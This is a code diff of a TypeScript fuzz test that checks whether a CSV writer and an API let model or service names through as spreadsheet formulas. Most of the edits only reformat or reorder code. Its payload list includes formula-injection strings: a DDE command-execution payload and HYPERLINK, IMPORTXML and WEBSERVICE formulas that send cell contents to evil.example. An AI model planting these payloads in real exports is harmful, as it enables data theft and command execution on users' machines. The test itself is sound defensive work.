@@ -6,8 +6,8 @@ import { hostileText } from "../fuzz/hostile-text.ts";
 import { tryInputs } from "../fuzz/try-inputs.ts";
 import { type Figure, never, type ProofRun } from "../proof.ts";
 import { deploymentEvents } from "../stack/deployment-events.ts";
-import { startArchive } from "../stack/running-archive.ts";
 import { startApp } from "../stack/running-app.ts";
+import { startArchive } from "../stack/running-archive.ts";
 import { readCsv } from "./read-csv.ts";
 
 const QUANTILES = [0.5, 0.9];
@@ -15,12 +15,31 @@ const QUANTILES = [0.5, 0.9];
 /** What spreadsheets run: the first character decides, full-width ones included. */
 const FORMULA = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;
 
-const STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", '"=', "'=", ";=", ",=", " =", "|=", "\0="];
+const STARTS = [
+  "=",
+  "+",
+  "-",
+  "@",
+  "\t=",
+  "\r=",
+  "\n=",
+  "＝",
+  "＋",
+  "－",
+  "＠",
+  '"=',
+  "'=",
+  ";=",
+  ",=",
+  " =",
+  "|=",
+  "\0=",
+];
 const FORMULAS = [
   "1+1",
   "cmd|' /C calc'!A0",
   'HYPERLINK("http://evil.example?x="&A1,"click")',
-  "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
+  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
   'WEBSERVICE("http://evil.example/"&A1)',
   "SUM(1)*cmd|' /C calc'!A0",
 ];
@@ -28,8 +47,13 @@ const FORMULAS = [
 /** Names of models and services that are formulas, through the writer and through the API. */
 export async function run(run: ProofRun): Promise<readonly Figure[]> {
   const runs = run.quick ? 2_000 : 50_000;
-  const formula = fc.tuple(fc.constantFrom(...STARTS), fc.constantFrom(...FORMULAS)).map((parts) => parts.join(""));
-  const inputs = fc.record({ name: fc.oneof(formula, hostileText()), version: fc.oneof(formula, hostileText()) });
+  const formula = fc
+    .tuple(fc.constantFrom(...STARTS), fc.constantFrom(...FORMULAS))
+    .map((parts) => parts.join(""));
+  const inputs = fc.record({
+    name: fc.oneof(formula, hostileText()),
+    version: fc.oneof(formula, hostileText()),
+  });
   const check = (model: { readonly name: string; readonly version: string }) => {
     const [group] = SAMPLE_DURATIONS.groups;
     if (group === undefined) throw new Error("the example has no group");
@@ -46,7 +70,11 @@ export async function run(run: ProofRun): Promise<readonly Figure[]> {
     }
   };
   return [
-    never("names whose cells begin like a formula, or are read back otherwise", await tryInputs({ inputs, runs, check }, run), runs),
+    never(
+      "names whose cells begin like a formula, or are read back otherwise",
+      await tryInputs({ inputs, runs, check }, run),
+      runs,
+    ),
     ...(await throughTheApi()),
   ];
 }
@@ -74,5 +102,11 @@ async function throughTheApi(): Promise<readonly Figure[]> {
   const cells = readCsv(text).flat();
   await Promise.all([close(), archive.close()]);
   const formulas = cells.filter((cell) => FORMULA.test(cell));
-  return [never("cells of the API's answer that begin like a formula", formulas, answer.status === 200 ? cells.length : 0)];
+  return [
+    never(
+      "cells of the API's answer that begin like a formula",
+      formulas,
+      answer.status === 200 ? cells.length : 0,
+    ),
+  ];
 }
